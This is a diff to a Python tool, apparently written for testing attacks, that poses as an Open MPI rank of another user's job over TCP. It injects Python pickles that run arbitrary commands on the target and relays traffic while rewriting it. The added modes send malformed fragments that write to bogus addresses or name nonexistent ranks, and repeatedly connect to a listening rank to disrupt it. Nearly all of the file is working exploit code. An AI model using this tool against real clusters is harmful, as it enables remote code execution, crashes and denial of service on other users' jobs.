@@ -1,17 +1,22 @@
 """Speak as one rank of another user's stage to a rank on another node, over Open MPI's TCP.
 
-A stand-alone program for tests of attacks. It only works on the node of the rank that it speaks as,
-since ranks compare addresses. All else that it needs is public: the job's id, the nodes' addresses,
-and that ranks listen on the first free port from 1024 on. It connects as soon as the target listens
-there. So it is taken for the rank, and the rank's own connection, which comes later, is closed.
+A stand-alone program for tests of attacks. It is accepted only on the node of the rank that it
+speaks as, since ranks compare addresses. All else that it needs is public: the job's id, the nodes'
+addresses, and that ranks listen on the first free port from 1024 on. It connects as soon as the
+target listens there. So it is taken for the rank, and the rank's own connection, which comes later,
+is closed.
 
 usage: inject.py TARGET JOB RANK run COMMAND
        inject.py TARGET JOB RANK relay OLD=NEW...
+       inject.py TARGET JOB RANK send put|source|ack
+       inject.py TARGET JOB RANK knock
 
 ``run`` answers each message of the target with one of the same kind, a Python pickle that runs
 COMMAND where it is read. ``relay`` is started on both nodes of a stage, with the other as TARGET.
 Together the two pass on all that the ranks send to each other, and replace OLD by NEW in what they
-receive from TARGET.
+receive from TARGET. ``send`` sends what the MPI library uses without a check: an address to write
+to, the number of a rank that there is not, or the address of a request. ``knock``, from any node,
+connects and sends one byte, again and again, as long as the target listens.
 """
 
 from __future__ import annotations
@@ -23,6 +28,7 @@ import struct
 import sys
 import threading
 import time
+from contextlib import suppress
 
 #: Where ranks listen. They pass over ports that other programs use, or that the kernel keeps for a
 #: minute after a rank ended.
@@ -40,6 +46,10 @@ FRAGMENT = struct.Struct("=BBHI")
 MATCHED, SEND = 0x41, 1
 # pml_ob1_hdr.h: 0x41 again, flags, communicator, source, tag, number of the message.
 MATCH = struct.Struct("=BBHiiH")
+# btl.h: where to write, and how much. pml_ob1_hdr.h: the addresses of a request here and there.
+SEGMENT, ACK = struct.Struct("=QQ"), struct.Struct("=BB6xQQQQ")
+PUT, ACKNOWLEDGED = 2, 0x45
+WRONG_ADDRESS = 0x41414000
 #: The longest message that is not a pickle, but says how long the next one is.
 LENGTH_SIZE = 8
 
@@ -72,10 +82,13 @@ def enter(target: str, job: int, rank: int) -> socket.socket:
     """Return a connection on which the target takes this process for the rank."""
     connection = connect(target, PORTS)
     connection.settimeout(SILENCE)
-    connection.sendall(HANDSHAKE.pack(process_job(job), rank, MAGIC))
-    answer = connection.recv(HANDSHAKE.size, socket.MSG_WAITALL)
+    answer = b""
+    with suppress(ConnectionError):
+        connection.sendall(HANDSHAKE.pack(process_job(job), rank, MAGIC))
+        answer = connection.recv(HANDSHAKE.size, socket.MSG_WAITALL)
     if len(answer) < HANDSHAKE.size or MAGIC not in answer:
-        sys.exit("not accepted")
+        say("not accepted")
+        sys.exit(1)
     say(f"accepted as rank {rank}")
     return connection
 
@@ -106,6 +119,39 @@ def inject(connection: socket.socket, rank: int, command: str) -> None:
         answer = MATCH.pack(MATCHED, flags, communicator, rank, tag, number) + body
         connection.sendall(FRAGMENT.pack(MATCHED, SEND, 0, len(answer)) + answer)
         say(f"answered message {number} with {len(body)} bytes")
+
+
+def send(connection: socket.socket, what: str) -> None:
+    """Send a fragment that the target's MPI library cannot stand, and wait for the end."""
+    if what == "put":
+        segment = SEGMENT.pack(WRONG_ADDRESS, 8)
+        connection.sendall(FRAGMENT.pack(MATCHED, PUT, 1, 0) + segment + bytes(8))
+    elif what == "source":
+        message = MATCH.pack(MATCHED, 0, 0, 1 << 30, -10, 1) + bytes(8)
+        connection.sendall(FRAGMENT.pack(MATCHED, SEND, 0, len(message)) + message)
+    else:
+        message = ACK.pack(ACKNOWLEDGED, 0, WRONG_ADDRESS, WRONG_ADDRESS, 0, 0)
+        connection.sendall(FRAGMENT.pack(ACKNOWLEDGED, SEND, 0, len(message)) + message)
+    say(f"sent {what}")
+    while connection.recv(1 << 20):
+        pass
+
+
+def knock(host: str) -> None:
+    """Connect to the rank on ``host`` and send one byte, as long as it listens."""
+    first = connect(host, PORTS)
+    port, count = first.getpeername()[1], 0
+    first.close()
+    with suppress(ConnectionRefusedError):
+        while True:
+            with (
+                socket.create_connection((host, port), SILENCE) as connection,
+                suppress(ConnectionResetError, BrokenPipeError),
+            ):
+                connection.send(b"x")
+                count += 1
+                connection.recv(1)
+    say(f"knocked {count} times")
 
 
 def meet(target: str, rank: int) -> socket.socket:
@@ -140,10 +186,15 @@ def main() -> None:
     target, job, rank, act, *words = sys.argv[1:]
     peer = meet(target, int(rank)) if act == "relay" else None
     say("ready")
+    if act == "knock":
+        knock(target)
+        return
     try:
         connection = enter(target, int(job), int(rank))
         if peer:
             relay(connection, peer, [word.encode().split(b"=") for word in words])
+        elif act == "send":
+            send(connection, words[0])
         else:
             inject(connection, int(rank), words[0])
     except OSError as error:
